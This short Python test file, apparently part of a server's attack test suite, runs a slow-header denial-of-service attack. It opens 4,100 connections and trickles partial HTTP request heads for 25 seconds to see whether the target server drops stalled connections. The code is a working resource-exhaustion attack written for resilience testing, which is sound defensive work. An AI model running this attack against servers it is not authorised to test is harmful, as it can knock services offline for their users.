"""4,100 connections on which nothing, or never the whole head of a request, arrives."""

import select
import time
from contextlib import ExitStack, closing, suppress

from tests.attack.sockets import connected
from tests.attack.target import Target

NUM = 4100
HELD_S = 25.0
"""Longer than a server should wait for a head."""


def attack(target: Target) -> str:
    """Open them, send a byte of a head now and then, and count those that are still open."""
    began = time.monotonic()
    with ExitStack() as held:
        sockets = [held.enter_context(closing(connected(target.where))) for _ in range(NUM)]
        opened_s = time.monotonic() - began
        for each in sockets[::2]:
            with suppress(OSError):
                each.sendall(b"GET /healthz HTTP/1.1\r\nX: ")
        while time.monotonic() - began < HELD_S:
            time.sleep(2.0)
            for each in sockets[::2]:
                with suppress(OSError):
                    each.send(b"x")
        num_open = sum(not _is_over(each) for each in sockets)
    return f"{NUM:,} connections opened in {opened_s:.1f} s, {num_open:,} open after {HELD_S:g} s"


def _is_over(connection: object) -> bool:
    """Whether the server has responded, or closed it."""
    poll = select.poll()
    poll.register(connection, select.POLLIN | select.POLLHUP)  # type: ignore[arg-type]
    return bool(poll.poll(0))
